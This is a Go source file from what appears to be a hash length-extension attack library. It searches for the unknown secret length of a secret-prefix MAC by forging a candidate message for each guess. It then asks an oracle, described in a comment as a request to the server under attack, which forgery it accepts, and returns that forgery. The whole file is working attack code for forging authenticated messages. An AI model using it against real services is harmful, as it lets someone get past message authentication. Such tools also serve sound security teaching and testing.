// Package search recovers an unknown secret length by forging a candidate for
// every guess in a range and asking an oracle which candidate it accepts.
package search

import (
	"context"
	"errors"
	"fmt"
	"log/slog"

	lru "github.com/hashicorp/golang-lru/v2"
	"github.com/storacha/go-lenext/forge"
	"github.com/storacha/go-lenext/mac"
	"github.com/storacha/go-lenext/mac/naive"
	"github.com/storacha/go-lenext/mac/signature"
)

// ErrNotFound is returned when the oracle rejects every guess.
var ErrNotFound = errors.New("no secret length guess was accepted")

// Oracle reports whether digest is a valid MAC for message. Typically this
// is a request to the server under attack.
type Oracle interface {
	Verify(ctx context.Context, message, digest []byte) (bool, error)
}

// OracleFunc adapts a function to an [Oracle].
type OracleFunc func(ctx context.Context, message, digest []byte) (bool, error)

func (f OracleFunc) Verify(ctx context.Context, message, digest []byte) (bool, error) {
	return f(ctx, message, digest)
}

// VerifierOracle adapts a [mac.Verifier] of the secret-prefix scheme to an
// [Oracle].
func VerifierOracle(v mac.Verifier) Oracle {
	return OracleFunc(func(ctx context.Context, message, digest []byte) (bool, error) {
		return v.Verify(message, signature.NewSignature(naive.Code, digest)), nil
	})
}

// Searcher tries secret length guesses against an oracle, remembering
// verdicts so repeated searches do not query the oracle twice for the same
// candidate.
type Searcher struct {
	oracle   Oracle
	min, max uint64
	verdicts *lru.Cache[string, bool]
	forge    []forge.Option
	logger   *slog.Logger
}

// New creates a [Searcher].
func New(oracle Oracle, opts ...Option) (*Searcher, error) {
	cfg := config{
		max:       DefaultMaxSecretLength,
		cacheSize: DefaultCacheSize,
		logger:    slog.Default(),
	}
	for _, opt := range opts {
		if err := opt(&cfg); err != nil {
			return nil, err
		}
	}
	if cfg.min > cfg.max {
		return nil, fmt.Errorf("invalid range: min %d > max %d", cfg.min, cfg.max)
	}
	verdicts, err := lru.New[string, bool](cfg.cacheSize)
	if err != nil {
		return nil, fmt.Errorf("creating verdict LRU: %w", err)
	}
	return &Searcher{
		oracle:   oracle,
		min:      cfg.min,
		max:      cfg.max,
		verdicts: verdicts,
		forge:    cfg.forge,
		logger:   cfg.logger,
	}, nil
}

// SecretLength returns the first guess whose forgery the oracle accepts and
// the forgery itself.
func (s *Searcher) SecretLength(ctx context.Context, message, digest, suffix []byte) (uint64, forge.Result, error) {
	for guess := s.min; ; guess++ {
		if err := ctx.Err(); err != nil {
			return 0, forge.Result{}, err
		}

		res, err := forge.Forge(message, digest, suffix, guess, s.forge...)
		if err != nil {
			return 0, forge.Result{}, err
		}

		ok, err := s.verify(ctx, res)
		if err != nil {
			return 0, forge.Result{}, fmt.Errorf("verifying guess %d: %w", guess, err)
		}
		s.logger.Debug("secret length guess", slog.Uint64("guess", guess), slog.Bool("accepted", ok))
		if ok {
			return guess, res, nil
		}

		if guess == s.max {
			break
		}
	}
	return 0, forge.Result{}, ErrNotFound
}

func (s *Searcher) verify(ctx context.Context, res forge.Result) (bool, error) {
	digest := res.Digest()
	key := string(digest) + string(res.Message())
	if ok, cached := s.verdicts.Get(key); cached {
		return ok, nil
	}
	ok, err := s.oracle.Verify(ctx, res.Message(), digest)
	if err != nil {
		return false, err
	}
	s.verdicts.Add(key, ok)
	return ok, nil
}

// SecretLength is a one-shot search with a fresh [Searcher].
func SecretLength(ctx context.Context, oracle Oracle, message, digest, suffix []byte, opts ...Option) (uint64, forge.Result, error) {
	s, err := New(oracle, opts...)
	if err != nil {
		return 0, forge.Result{}, err
	}
	return s.SecretLength(ctx, message, digest, suffix)
}
